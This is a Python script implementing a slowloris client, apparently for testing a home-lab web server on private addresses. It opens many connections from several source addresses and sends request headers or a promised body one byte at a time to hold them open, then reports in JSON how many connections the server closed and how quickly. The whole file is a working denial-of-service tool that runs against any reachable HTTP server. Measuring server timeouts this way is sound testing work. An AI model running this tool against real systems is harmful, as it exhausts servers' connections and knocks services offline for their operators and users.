#!/usr/bin/env python3
"""A slowloris client for the homenet testbed: it holds HTTP connections
open by sending a request a byte at a time.

  slowloris.py --target 192.168.77.10:8088 --sources 192.168.77.31,... \\
      --per-source 128 --mode header --interval 4 --duration 40

Each source address (which must be on one of the host's interfaces) opens
--per-source connections to the target, then every --interval seconds sends
each of them one more byte: of the request headers (--mode header), or of
a body the headers announced with a large Content-Length (--mode body).
After --duration seconds it prints one JSON object: how many connections
were opened, refused, and closed by the server, and after how long (the
median and the largest, in seconds), then closes the rest.
"""

import argparse
import json
import select
import socket
import statistics
import time


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--target", required=True)
    p.add_argument("--sources", required=True)
    p.add_argument("--per-source", type=int, default=4)
    p.add_argument("--mode", choices=("header", "body"), default="header")
    p.add_argument("--path", default="/api/health")
    p.add_argument("--interval", type=float, default=4)
    p.add_argument("--duration", type=float, default=40)
    args = p.parse_args()
    host, port = args.target.rsplit(":", 1)
    port = int(port)

    if args.mode == "header":
        head = (f"GET {args.path} HTTP/1.1\r\nHost: {host}\r\n").encode()
        drip = b"X-a: b\r\n"
    else:
        head = (f"POST {args.path} HTTP/1.1\r\nHost: {host}\r\n"
                "Content-Type: application/json\r\n"
                "Content-Length: 1000\r\n\r\n").encode()
        drip = b" " * 1000

    conns = []      # [socket, opened at, closed at or None, next byte]
    refused = 0
    t0 = time.monotonic()
    for src in args.sources.split(","):
        for _ in range(args.per_source):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(2)
            try:
                s.bind((src, 0))
                s.connect((host, port))
                s.sendall(head)
            except OSError:
                refused += 1
                s.close()
                continue
            s.setblocking(False)
            conns.append([s, time.monotonic(), None, 0])

    next_drip = time.monotonic() + args.interval
    end = t0 + args.duration
    while True:
        now = time.monotonic()
        if now >= end:
            break
        live = [c for c in conns if c[2] is None]
        if not live:
            break
        r, _, _ = select.select([c[0] for c in live], [], [],
                                max(0, min(next_drip, end) - now))
        now = time.monotonic()
        for c in live:
            if c[0] in r:
                # An answer (408, 400...) or the end: the server let go.
                c[2] = now
                c[0].close()
        if now >= next_drip:
            next_drip = now + args.interval
            for c in conns:
                if c[2] is not None:
                    continue
                i = c[3] % len(drip)
                try:
                    c[0].send(drip[i:i + 1])
                    c[3] += 1
                except OSError:
                    c[2] = now
                    c[0].close()

    closed = [c[2] - c[1] for c in conns if c[2] is not None]
    for c in conns:
        if c[2] is None:
            c[0].close()
    print(json.dumps({
        "opened": len(conns),
        "refused": refused,
        "closed_by_server": len(closed),
        "held_to_the_end": len(conns) - len(closed),
        "closed_after_median_s": round(statistics.median(closed), 1) if closed else None,
        "closed_after_max_s": round(max(closed), 1) if closed else None,
    }))


if __name__ == "__main__":
    main()
